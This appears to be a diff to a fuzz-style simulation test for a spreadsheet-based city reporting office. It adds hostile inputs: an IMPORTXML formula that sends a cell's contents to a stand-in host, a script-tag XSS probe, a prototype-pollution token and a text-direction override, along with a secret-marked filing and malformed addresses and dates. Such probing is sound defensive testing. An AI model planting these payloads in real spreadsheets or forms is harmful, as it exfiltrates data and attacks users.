@@ -1,6 +1,6 @@
 import { Temporal } from 'temporal-polyfill';
 import { planAlone, withoutPlan } from '../../scripts/story/reports.ts';
-import type { Answers } from '../../scripts/workspace/city.ts';
+import type { Answers, Filing } from '../../scripts/workspace/city.ts';
 import { OUTLINE_VERSION } from '../../sheets-schema/seed/outline.ts';
 import { outline } from '../../sheets-schema/tabs/outline.ts';
 import { rounds } from '../../sheets-schema/tabs/rounds.ts';
@@ -8,7 +8,8 @@ import { settingsTab } from '../../sheets-schema/tabs/settings.ts';
 import { contacts } from '../../sheets-schema/tabs/units.ts';
 import { CITIES, ROUND } from '../../test/support/office.ts';
 import { fullReport } from '../../test/support/reports.ts';
-import { damagingActs, harmlessActs, typing } from '../people/person-acts.ts';
+import { damagingActs, harmlessActs, type PersonAct, typing } from '../people/person-acts.ts';
+import { SECRET } from '../simulation/model-responses.ts';
 import type { Did, Life } from './life.ts';
 
 const did = (what: string): Did => ({ what, isByPeople: true, isHurt: false, errors: [] });
@@ -71,6 +72,27 @@ export async function fileReport({ office, random }: Life): Promise<Did> {
   );
 }
 
+const LONG = 'Báo cáo dán nhầm vào ô ngắn. '.repeat(2_100).slice(0, 60_000);
+const HOSTILE = '=IMPORTXML("https://la.example/?q="&A1;"//a") <script>alert(1)</script> {{{__proto__}}} \u202E';
+const longFields = { office: LONG, filer: LONG, position: LONG, email: LONG, phone: LONG, officialNumber: LONG };
+const hostileFields = { office: HOSTILE, filer: HOSTILE, position: HOSTILE, email: HOSTILE, phone: HOSTILE };
+
+/** Somebody who has no link answers in a city's name, once or many times: a secret, a book, words that want to be more. */
+export async function strangerAnswers({ office, random }: Life): Promise<Did> {
+  const count = random.pick([1, 1, 2, 8] as const);
+  const unit = random.pick(CITIES);
+  const text = random.pick([`TÀI LIỆU MẬT\n${SECRET}`, LONG, HOSTILE, 'Không có đề nghị nào khác.'] as const);
+  const own = random.pick<Partial<Filing>>([
+    {},
+    { identification: longFields },
+    { identification: hostileFields },
+    { official: { number: '12/BC-UBND', date: '0025-10-23' } },
+  ]);
+  return attempt(`a stranger answers ${count} times for ${unit}`, async () => {
+    for (let left = count; left > 0; left -= 1) await office.file(unit, { '1.5': text }, { code: HOSTILE, ...own });
+  });
+}
+
 async function setSwitch(url: string, name: string, on: boolean): Promise<void> {
   await fetch(`${url}/_emulator/switches`, { method: 'PUT', body: JSON.stringify({ [name]: on }) });
 }
@@ -81,17 +103,31 @@ export async function harmlessAct({ office, random }: Life): Promise<Did> {
   return attempt(act.name, () => act.play(office));
 }
 
+/** In another language a typed 5/11 is the 11th of May. Whoever puts it back waits until the file is looked at again. */
+const anotherLanguage: PersonAct = {
+  name: 'the file is set to another language',
+  play: async (office) => {
+    const set = (locale: string) =>
+      office.edit({ updateSpreadsheetProperties: { properties: { locale }, fields: 'locale' } });
+    await set('en_US');
+    return () => set('vi_VN');
+  },
+  holds: 'all',
+};
+
 /** Somebody spoils something, and puts it right some steps later. */
 export async function damagingAct(life: Life): Promise<Did> {
-  const act = life.random.pick(damagingActs as [(typeof damagingActs)[number]]);
+  const act = life.random.pick([...damagingActs, anotherLanguage] as unknown as [PersonAct]);
   return attempt(act.name, async () => {
     life.repair = (await act.play(life.office)) ?? null;
+    life.holds = life.repair ? act.holds : undefined;
   });
 }
 
 export async function repair(life: Life): Promise<Did> {
   await life.repair?.();
   life.repair = null;
+  life.holds = undefined;
   return did('it is mended');
 }
 
@@ -123,6 +159,9 @@ function addressIn({ random }: Life): string {
     `${address},`,
     `Tổ giúp việc <${address}>`,
     `${address}; hai@x.example`,
+    `mailto:${address}`,
+    `\u2068${address}\n`,
+    'hop-thu@x',
     'hai@',
   ]);
 }
@@ -138,6 +177,9 @@ const DECISIONS = [
   ['Gia hạn', '31/10/2025'],
   ['Gia hạn', '07/11/2025'],
   ['Gia hạn', 'tuần sau'],
+  ['Gia hạn', '31/10/20255'],
+  ['Gửi lại', ''],
+  ['Không phải của đơn vị', ''],
   ['Tạm dừng nhắc', ''],
   ['Nhắc trở lại', ''],
   ['Trả lại để bổ sung', ''],
